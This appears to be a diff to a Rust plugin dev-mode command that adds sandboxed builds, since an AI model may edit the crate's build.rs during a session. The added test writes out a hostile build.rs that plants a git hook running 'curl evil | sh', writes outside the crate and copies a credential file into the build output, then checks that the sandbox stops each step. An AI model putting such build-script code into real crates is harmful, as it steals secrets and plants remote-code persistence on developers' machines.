@@ -3,6 +3,11 @@
 //! through the kernel's reload, which hands the plugin's kernel-held state to the new version
 //! and restores the old one if the new one does not activate. A build that fails leaves the
 //! running version live and shows the compiler's messages. The prompt names the live build.
+//!
+//! Every build runs inside keel's sandbox (only the crate's directory writable, offline, a
+//! scrubbed environment): the model may write the crate's `build.rs`, a proc macro or its
+//! `.cargo/config.toml` during the session, and the next save builds them. Where the sandbox
+//! cannot start, nothing is built; the person builds it with `keel plugin build`.
 
 use std::path::{Path, PathBuf};
 use std::process::ExitCode;
@@ -13,7 +18,9 @@ use std::time::{Duration, Instant};
 use anyhow::Context as _;
 use notify_debouncer_mini::notify::RecursiveMode;
 
-use super::plugin::build_component;
+use keel_kernel::sandbox::SandboxConfig;
+
+use super::plugin::build_component_in;
 use super::run::{SessionArgs, interactive, say_resume, say_session};
 use crate::config::Context;
 use crate::session::{Display, Session, SessionOptions};
@@ -27,9 +34,15 @@ pub async fn dev(ctx: &Context, args: SessionArgs, dir: PathBuf) -> anyhow::Resu
     let dir = dir
         .canonicalize()
         .with_context(|| format!("cannot find the plugin crate `{}`", dir.display()))?;
-    eprintln!("[dev] building {}…", dir.display());
+    // Every build of the crate runs in keel's sandbox: the model may write its sources during
+    // the session, and a save builds them.
+    let sandbox = Arc::new(crate::settings::sandbox_config(ctx)?);
+    eprintln!(
+        "[dev] building {} (in keel's sandbox: only the crate writable, offline)…",
+        dir.display()
+    );
     let began = Instant::now();
-    let (manifest, component) = build(&dir).await?;
+    let (manifest, component) = build(&dir, &sandbox).await?;
     let name = keel_kernel::Manifest::load(&manifest)?.name;
     eprintln!(
         "[dev] built `{name}` in {:.1} s",
@@ -51,6 +64,7 @@ pub async fn dev(ctx: &Context, args: SessionArgs, dir: PathBuf) -> anyhow::Resu
         .await?,
     );
     say_session(&session);
+    super::run::say_ignored(ctx);
     let live = Arc::new(AtomicU32::new(1));
     let (changes, watcher) = watch(&dir)?;
     eprintln!(
@@ -61,7 +75,7 @@ pub async fn dev(ctx: &Context, args: SessionArgs, dir: PathBuf) -> anyhow::Resu
     let swapper = tokio::spawn(swap_on_change(
         changes,
         session.clone(),
-        dir.clone(),
+        (dir.clone(), sandbox),
         name.clone(),
         live.clone(),
         sources_state(&dir),
@@ -76,10 +90,10 @@ pub async fn dev(ctx: &Context, args: SessionArgs, dir: PathBuf) -> anyhow::Resu
     result.map(|()| ExitCode::SUCCESS)
 }
 
-/// The crate built on a blocking thread.
-async fn build(dir: &Path) -> anyhow::Result<(PathBuf, PathBuf)> {
-    let dir = dir.to_owned();
-    tokio::task::spawn_blocking(move || build_component(&dir))
+/// The crate built on a blocking thread, inside keel's sandbox.
+async fn build(dir: &Path, sandbox: &Arc<SandboxConfig>) -> anyhow::Result<(PathBuf, PathBuf)> {
+    let (dir, sandbox) = (dir.to_owned(), sandbox.clone());
+    tokio::task::spawn_blocking(move || build_component_in(&dir, Some(&sandbox)))
         .await
         .context("the build was interrupted")?
 }
@@ -181,7 +195,7 @@ fn sources_state(dir: &Path) -> u64 {
 async fn swap_on_change(
     mut changes: tokio::sync::mpsc::UnboundedReceiver<Instant>,
     session: Arc<Session>,
-    dir: PathBuf,
+    (dir, sandbox): (PathBuf, Arc<SandboxConfig>),
     name: String,
     live: Arc<AtomicU32>,
     mut built_from: u64,
@@ -200,14 +214,14 @@ async fn swap_on_change(
         }
         built_from = now;
         eprintln!("\n[dev] rebuilding `{name}`…");
-        let mut made = build(&dir)
+        let mut made = build(&dir, &sandbox)
             .await
             .map(|(manifest, component)| build_hash(&manifest, &component));
         // The sources changed but cargo made the same component: it judged the crate fresh
         // (a change it had not seen yet); ask once more.
         if made.as_ref().is_ok_and(|hash| *hash == live_build) {
             tokio::time::sleep(Duration::from_millis(100)).await;
-            made = build(&dir)
+            made = build(&dir, &sandbox)
                 .await
                 .map(|(manifest, component)| build_hash(&manifest, &component));
         }
@@ -264,6 +278,87 @@ mod tests {
         assert!(!is_source(root, Path::new("/p/Cargo.lock")));
         assert!(!is_source(root, Path::new("/p/target/release/x")));
         assert!(!is_source(root, Path::new("/elsewhere/src/lib.rs")));
+    }
+
+    /// A plugin crate whose `build.rs` does what a poisoned one would: write outside the
+    /// crate (a marker in `outside`), plant a git hook in the crate's repository, and read a
+    /// credential store and keel's home; it prints what it could read into `OUT_DIR`'s note.
+    fn hostile_crate(root: &Path, outside: &Path, secret: &Path) -> std::io::Result<PathBuf> {
+        let dir = root.join("poisoned");
+        std::fs::create_dir_all(dir.join("src"))?;
+        std::fs::create_dir_all(dir.join(".git/hooks"))?;
+        std::fs::write(
+            dir.join("Cargo.toml"),
+            "[package]\nname = \"poisoned\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
+             [lib]\ncrate-type = [\"cdylib\"]\n[workspace]\n",
+        )?;
+        std::fs::write(
+            dir.join("keel.toml"),
+            "name = \"poisoned\"\nversion = \"0.1.0\"\nkind = \"wasm\"\n\
+             component = \"poisoned.wasm\"\n",
+        )?;
+        std::fs::write(dir.join("src/lib.rs"), "pub fn f() {}\n")?;
+        let build_rs = format!(
+            "fn main() {{\n\
+               let _ = std::fs::write({marker:?}, \"ran with your rights\");\n\
+               let _ = std::fs::write(\".git/hooks/pre-commit\", \"curl evil | sh\");\n\
+               let stolen = std::fs::read_to_string({secret:?}).unwrap_or_default();\n\
+               let out = std::env::var(\"OUT_DIR\").unwrap();\n\
+               std::fs::write(std::path::Path::new(&out).join(\"stolen\"), stolen).unwrap();\n\
+             }}\n",
+            marker = outside.join("pwned"),
+            secret = secret,
+        );
+        std::fs::write(dir.join("build.rs"), build_rs)?;
+        Ok(dir)
+    }
+
+    fn stolen(target: &Path) -> String {
+        let mut found = String::new();
+        for build in ["release/build", "wasm32-wasip2/release/build"] {
+            for entry in std::fs::read_dir(target.join(build))
+                .into_iter()
+                .flatten()
+                .flatten()
+            {
+                if let Ok(text) = std::fs::read_to_string(entry.path().join("out/stolen")) {
+                    found.push_str(&text);
+                }
+            }
+        }
+        found
+    }
+
+    #[test]
+    fn a_rebuild_runs_a_poisoned_build_script_inside_the_sandbox() -> anyhow::Result<()> {
+        let tmp = tempfile::tempdir()?;
+        let outer = tempfile::tempdir_in("/var/tmp")?;
+        let outside = outer.path().canonicalize()?;
+        let secret = outside.join("credentials.toml");
+        std::fs::write(&secret, "TOKEN-FOR-TEST")?;
+        let dir = hostile_crate(tmp.path(), &outside, &secret)?;
+        let sandbox = SandboxConfig {
+            deny_read: vec![secret.clone()],
+            ..SandboxConfig::default()
+        };
+        assert!(
+            keel_kernel::sandbox::probe(&sandbox).is_confined(),
+            "the test needs bubblewrap"
+        );
+        // CARGO_TARGET_DIR from the test's environment is honoured (made writable); the
+        // build's own writes land only there and in the crate.
+        let target = std::env::var_os("CARGO_TARGET_DIR")
+            .map(PathBuf::from)
+            .unwrap_or_else(|| dir.join("target"));
+        let built = build_component_in(&dir, Some(&sandbox));
+        assert!(built.is_ok(), "the build itself works: {built:?}");
+        assert!(!outside.join("pwned").exists(), "build.rs wrote outside");
+        assert!(
+            !dir.join(".git/hooks/pre-commit").exists(),
+            "build.rs planted a hook"
+        );
+        assert_eq!(stolen(&target), "", "build.rs read the credential store");
+        Ok(())
     }
 
     #[test]
